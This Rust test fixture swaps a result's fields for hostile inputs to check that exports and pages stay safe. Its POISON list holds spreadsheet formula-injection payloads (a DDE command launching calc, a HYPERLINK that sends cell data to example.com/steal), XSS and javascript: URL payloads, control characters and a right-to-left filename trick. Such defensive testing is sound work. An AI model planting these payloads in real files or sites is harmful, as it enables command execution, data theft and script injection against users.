//! A result as an attacker, or a careless provider, would have it: what must never run, break
//! a file or take over a page further down the line. It still holds to the contract.

use serde_json::{Map, Value, json};

use super::NOTE;

/// Texts that some program would take for more than text.
const POISON: [&str; 14] = [
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"https://example.com/steal?\"&A1,\"Click\")",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r\n=1+1",
    "\u{ff1d}1+1",
    "<script>alert('sandbox')</script>",
    "\"><img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "bell\u{7} null\u{0} escape\u{1b}[31m tab\u{b} end\u{fffe}",
    "right-to-left \u{202e}txt.exe, zero\u{200b}width, e\u{301}, \u{1f9ea}",
];

/// Longer than the 32,767 characters that a spreadsheet cell holds.
const LONG_TEXT: usize = 40_000;

/// Replaces what a well-meant result says by what a hostile one might.
pub(super) fn poison(mut result: Value) -> Value {
    result["account"]["name"] = json!(POISON[8]);
    result["account"]["website"] = json!(POISON[10]);
    result["signals"][0]["title"] = json!(POISON[9]);
    result["signals"][0]["evidence"][0]["url"] = json!(POISON[10]);
    result["contacts"][0]["name"] = json!(POISON[0]);
    result["contacts"][0]["profile_url"] = json!(POISON[11]);
    result["drafts"][0]["body"] = json!("=".repeat(LONG_TEXT));
    result["exportRows"] = json!([texts(), shapes(), {"note": NOTE}]);
    result["exportUrls"]["csv"] = json!(POISON[10]);
    result
}

fn texts() -> Value {
    let mut row = Map::new();
    for (number, text) in POISON.iter().enumerate() {
        row.insert(format!("text_{number}"), json!(text));
    }
    row.insert("evidence_url".to_owned(), json!(POISON[10]));
    row.insert("long_text".to_owned(), json!("\u{e4}".repeat(LONG_TEXT)));
    row.insert(
        "long_url".to_owned(),
        json!(format!("https://example.com/{}", "a".repeat(3000))),
    );
    row.insert("=1+1".to_owned(), json!("a key that is a formula"));
    row.insert("<b>key</b>".to_owned(), json!("a key that is markup"));
    row.insert(String::new(), json!("a key that is empty"));
    row.insert("k".repeat(300), json!("a key that is long"));
    row.insert("lead_id".to_owned(), json!("a key that is taken"));
    row.insert("note".to_owned(), json!(NOTE));
    Value::Object(row)
}

fn shapes() -> Value {
    json!({
        "nested": {"a": {"b": {"c": {"d": POISON[0]}}}, "list": [POISON[8], POISON[1]]},
        "nested.a": "a dotted key that collides",
        "list": ["one", 2, true, null, POISON[2]],
        "objects": [{"url": POISON[10]}, {"deeper": [[[]]]}],
        "nulls": [null, null],
        "empty_list": [],
        "empty_object": {},
        "nothing": null,
        "yes": true,
        "large": 9_007_199_254_740_993_u64,
        "huge": 1e308,
        "tiny": 5e-324,
        "minus_zero": -0.0,
        "text_0": 7,
        "note": NOTE,
    })
}
